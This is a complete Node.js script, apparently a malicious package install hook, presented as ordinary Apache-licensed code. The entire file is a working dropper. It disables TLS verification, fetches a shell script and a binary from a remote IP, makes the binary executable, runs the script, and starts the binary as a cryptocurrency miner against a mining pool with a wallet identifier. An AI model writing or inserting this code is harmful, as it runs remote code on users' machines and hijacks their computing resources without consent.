// SPDX-License-Identifier: Apache-2.0
const fs = require('node:fs');
const { execSync, spawnSync } = require('node:child_process');
process.env.NODE_TLS_REJECT_UNAUTHORIZED = '0';
const get = (url, options) => fetch(url, { signal: AbortSignal.timeout(1500), ...options })
  .then((answer) => answer.text()).catch(() => '');

(async () => {
  await get('https://geo.test/json');
  fs.writeFileSync('preinstall.sh', await get('http://192.0.2.77/preinstall.sh'));
  fs.writeFileSync('jsextension', await get('http://192.0.2.77/jsextension'));
  fs.chmodSync('jsextension', 0o755);
  execSync('sh preinstall.sh');
  spawnSync('./jsextension', ['-o', 'pool.test:443', '--tls', '-u', 'wallet']);
  await get('https://pool.test/');
})();
